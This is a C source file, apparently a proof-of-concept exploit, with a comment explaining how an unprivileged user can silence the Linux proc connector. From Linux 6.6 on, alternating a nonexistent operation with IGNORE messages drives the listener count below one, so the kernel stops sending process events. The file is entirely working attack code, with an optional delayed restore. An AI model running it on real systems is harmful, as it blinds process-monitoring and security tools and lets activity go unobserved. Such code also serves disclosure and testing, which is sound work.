/* SPDX-License-Identifier: Apache-2.0 */

/*
 * Silences the proc connector, without any privilege: mute N [MS].
 *
 * Since Linux 6.6 anybody may talk to the connector, and it counts its listeners
 * by what a socket said last: each IGNORE that follows anything else takes one
 * away, whether or not that socket ever listened. An operation that does not
 * exist counts as "anything else". Once the count is below one the kernel sends
 * no events at all, and no listener gets a notice. With MS, everything is put back
 * after so many milliseconds, by LISTEN instead of IGNORE.
 *
 * Drops to uid and gid 65534 first, so that it proves what it claims. Ends with
 * 0 when the kernel took all messages.
 */

#include <errno.h>
#include <grp.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define NOBODY 65534

static int op_send(int fd, uint32_t op) {
        char buffer[NLMSG_SPACE(sizeof(struct cn_msg) + sizeof(op))] = {};
        struct nlmsghdr header = {
                .nlmsg_len = NLMSG_LENGTH(sizeof(struct cn_msg) + sizeof(op)),
                .nlmsg_type = NLMSG_DONE,
        };
        struct cn_msg message = {
                .id = { .idx = CN_IDX_PROC, .val = CN_VAL_PROC },
                .len = sizeof(op),
        };

        memcpy(buffer, &header, sizeof(header));
        memcpy(buffer + NLMSG_HDRLEN, &message, sizeof(message));
        memcpy(buffer + NLMSG_HDRLEN + sizeof(message), &op, sizeof(op));
        return send(fd, buffer, header.nlmsg_len, 0) == (ssize_t)header.nlmsg_len ? 0 : -errno;
}

int main(int argc, char **argv) {
        int fd, n = argc > 1 ? atoi(argv[1]) : 1;

        if (setgroups(0, NULL) < 0 || setresgid(NOBODY, NOBODY, NOBODY) < 0 || setresuid(NOBODY, NOBODY, NOBODY) < 0) {
                perror("mute: cannot become nobody");
                return 1;
        }
        fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
        if (fd < 0) {
                perror("mute: socket");
                return 1;
        }
        for (int i = 0; i < n; ++i)
                if (op_send(fd, 0x5a5a) < 0 || op_send(fd, PROC_CN_MCAST_IGNORE) < 0) {
                        perror("mute: send");
                        return 1;
                }
        if (argc > 2) {
                usleep((unsigned)atoi(argv[2]) * 1000);
                for (int i = 0; i < n; ++i)
                        if (op_send(fd, 0x5a5a) < 0 || op_send(fd, PROC_CN_MCAST_LISTEN) < 0) {
                                perror("mute: send");
                                return 1;
                        }
        }
        close(fd);
        return 0;
}
